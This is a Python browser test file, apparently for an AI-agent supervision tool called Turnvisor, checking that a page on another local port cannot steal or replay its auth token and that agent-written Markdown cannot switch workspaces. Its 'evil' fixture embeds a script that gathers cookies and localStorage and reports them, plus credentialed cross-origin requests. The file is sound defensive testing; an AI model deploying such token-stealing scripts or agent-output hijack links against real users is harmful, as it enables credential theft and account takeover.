"""The token stays in Turnvisor's origin (issue 27, items 2 and 6), in real Chromium.

An agent's "preview server" on another port of 127.0.0.1 is another origin but
the same *site*: the browser sends it every cookie of 127.0.0.1.  Here such a
page (a real second HTTP server) is opened in the browser that uses Turnvisor;
it reports everything it can see or is sent (headers, cookies, its own
storage); every bit of it replayed against Turnvisor is refused (401).

And agent output cannot switch the person's workspace: a Markdown image
``/?token=<other workspace's token>`` loads (no script runs for it) and leaves
the stored token as it was; a link to it, clicked, asks before switching.
"""

from __future__ import annotations

import base64
import http.server
import threading
from collections.abc import Iterator
from pathlib import Path
from typing import Any
from urllib.parse import parse_qsl, urlsplit

import httpx
import pytest

pytest.importorskip("playwright.sync_api")

from playwright.sync_api import expect

from tests.browser.ui import Person, create_task
from tests.support.serverproc import BlockingServerProcess, start_blocking_server

pytestmark = pytest.mark.browser

TOKEN = "cross-port-test-token-0123456789-abcdefgh"
OTHER = "cross-port-other-workspace-token-0123456789"
STORAGE_KEY = "turnvisor.token"


@pytest.fixture
def turnvisor(tmp_path: Path) -> Iterator[BlockingServerProcess]:
    # Every replay is a failed authentication: no throttle here (it has its own test).
    toml = (f'[workspaces.other]\ntoken = "{OTHER}"\n'
            "[limits]\nauth_failures_per_peer = 1000000\n")
    srv = start_blocking_server(tmp_path / "data", toml=toml, token=TOKEN)
    try:
        yield srv
    finally:
        srv.stop()


class _Recorder(http.server.BaseHTTPRequestHandler):
    """The agent's page: it reports what it can read, and we keep what it is sent."""

    seen: list[tuple[str, str, list[tuple[str, str]]]]
    page: bytes

    def do_GET(self) -> None:
        self.seen.append(("GET", self.path, list(self.headers.items())))
        body = self.page if self.path == "/" else b"ok"
        self.send_response(200)
        self.send_header("Content-Type", "text/html" if self.path == "/" else "text/plain")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, format: str, *args: Any) -> None:
        pass


@pytest.fixture
def evil(turnvisor: BlockingServerProcess) -> Iterator[tuple[str, list[Any]]]:
    seen: list[tuple[str, str, list[tuple[str, str]]]] = []
    page = f"""<!doctype html><title>preview</title><script>
      const loot = {{cookie: document.cookie, storage: JSON.stringify({{...localStorage}})}};
      fetch("/report?" + new URLSearchParams(loot), {{credentials: "include"}})
        .then(() => {{ document.title = "reported"; }});
      new Image().src = "/pixel";
      // Straight at Turnvisor too (the answers are opaque; its server refuses them anyway).
      fetch("{turnvisor.url}/api/v1/tasks", {{credentials: "include", mode: "no-cors"}});
    </script>""".encode()
    handler = type("Recorder", (_Recorder,), {"seen": seen, "page": page})
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), handler)
    thread = threading.Thread(target=server.serve_forever, name="evil-page", daemon=True)
    thread.start()
    try:
        yield f"http://127.0.0.1:{server.server_address[1]}", seen
    finally:
        server.shutdown()
        server.server_close()
        thread.join(timeout=10)


def _ws_status(srv: BlockingServerProcess, headers: list[tuple[str, str]]) -> int:
    upgrade = [("Connection", "Upgrade"), ("Upgrade", "websocket"),
               ("Sec-WebSocket-Version", "13"), ("Sec-WebSocket-Key", "dGhlIHNhbXBsZSBub25jZQ==")]
    r = httpx.get(srv.url_for("/ws"), headers=[*upgrade, *headers], timeout=10)
    return r.status_code


def _subprotocol(token: str) -> str:
    return "turnvisor.bearer." + base64.urlsafe_b64encode(token.encode()).decode().rstrip("=")


def test_what_a_page_on_another_port_receives_opens_nothing(
    turnvisor: BlockingServerProcess, evil: tuple[str, list[Any]], browser: Any,
) -> None:
    evil_url, seen = evil
    context = browser.new_context()
    try:
        person = Person(context.new_page(), turnvisor)
        person.login("/")
        expect(person.page.get_by_test_id("task-list")).to_be_visible()
        assert person.page.evaluate(f"() => localStorage.getItem('{STORAGE_KEY}')") == TOKEN
        # The person follows the agent's link to its preview server.
        person.page.goto(evil_url + "/")
        expect(person.page).to_have_title("reported", timeout=10_000)
        person.page.wait_for_timeout(300)  # the pixel
    finally:
        context.close()

    paths = [path for _, path, _ in seen]
    assert "/" in paths and "/pixel" in paths, paths
    report = next(dict(parse_qsl(urlsplit(p).query, keep_blank_values=True))
                  for p in paths if p.startswith("/report"))
    assert TOKEN not in report["storage"] and TOKEN not in report["cookie"], report

    # Everything it was sent or found, replayed: headers as they came, and every
    # value in them, in the query strings and in its report, as a token.
    drop = {"host", "content-length", "connection"}
    candidates = {v for v in report.values() if v}
    for _, path, headers in seen:
        candidates.update(v for _, v in parse_qsl(urlsplit(path).query) if v)
        for name, value in headers:
            candidates.add(value)
            if name.lower() == "cookie":
                candidates.update(c.split("=", 1)[-1].strip() for c in value.split(";"))
    replays = 0
    with httpx.Client(base_url=turnvisor.url, timeout=10) as h:
        assert h.get("/api/v1/tasks", headers={"Authorization": f"Bearer {TOKEN}"}).is_success
        for _, path, raw in seen:
            headers = [(k, v) for k, v in raw if k.lower() not in drop]
            query = urlsplit(path).query
            for method, target in (("GET", "/api/v1/tasks"), ("POST", "/api/v1/tasks")):
                # A connection each: a request refused before its body is read
                # leaves its connection unusable (issue 27, item 7, not this test's).
                r = httpx.request(method, turnvisor.url + target + (f"?{query}" if query else ""),
                              timeout=10,
                                  headers=[*headers, ("Origin", turnvisor.url),
                                           ("Content-Type", "application/json")],
                                  content=b'{"title": "stolen"}')
                assert r.status_code == 401, (method, path, r.status_code)
                replays += 1
            assert _ws_status(turnvisor, headers) == 401, path
        for value in candidates:
            for headers in ([("Authorization", f"Bearer {value}")],
                            [("Cookie", f"turnvisor_token={value}")]):
                assert h.get("/api/v1/tasks", headers=headers).status_code == 401, value
            assert _ws_status(turnvisor, [("Sec-WebSocket-Protocol",
                                           f"turnvisor, {_subprotocol(value)}")]) == 401
            replays += 1
        tasks = h.get("/api/v1/tasks", headers={"Authorization": f"Bearer {TOKEN}"}).json()
    assert replays > 6
    assert tasks["tasks"] == []  # no replay created anything


def test_agent_output_cannot_switch_the_workspace(
    turnvisor: BlockingServerProcess, browser: Any,
) -> None:
    task_id = create_task(turnvisor, "Mine")
    context = browser.new_context()
    try:
        person = Person(context.new_page(), turnvisor)
        person.login(f"/tasks/{task_id}")
        person.launch_session()
        # The mock agent echoes the prompt back as its Markdown answer.
        with person.page.expect_request(lambda r: f"token={OTHER}" in r.url) as image:
            person.send(f"![preview](/?token={OTHER}) and [the preview](/?token={OTHER})")
        assert image.value.resource_type == "image"
        answer = person.page.get_by_test_id("message-list").locator(
            '[data-role="agent"][data-kind="text"]').last
        expect(answer.locator("img")).to_have_count(1)
        person.page.wait_for_timeout(300)
        stored = "() => localStorage.getItem('turnvisor.token')"
        assert person.page.evaluate(stored) == TOKEN
        # Still this workspace after a reload.
        person.page.reload()
        expect(person.page.get_by_role("heading", name="Mine")).to_be_visible()

        # The link, clicked, is a real visit: the page asks; staying keeps all as it was.
        person.page.goto(turnvisor.url_for(f"/tasks/{task_id}"))
        link = person.page.get_by_role("link", name="the preview")
        link.evaluate("a => a.removeAttribute('target')")  # the same tab, for the test
        person.press(link)
        dialog = person.page.get_by_test_id("switch-workspace-confirm")
        expect(dialog).to_be_visible()
        assert "token=" not in person.page.url
        assert person.page.evaluate(stored) == TOKEN
        person.press(person.page.get_by_test_id("switch-workspace-keep"))
        expect(person.page.get_by_test_id("task-list")).to_contain_text("Mine")
        assert person.page.evaluate(stored) == TOKEN

        # A person who does mean to switch says so.
        person.page.goto(turnvisor.url_for(f"/?token={OTHER}"))
        person.press(person.page.get_by_test_id("switch-workspace-accept"))
        expect(person.page.get_by_test_id("task-list")).to_be_visible()
        expect(person.page.get_by_test_id("task-list")).not_to_contain_text("Mine")
        assert person.page.evaluate(stored) == OTHER
    finally:
        context.close()
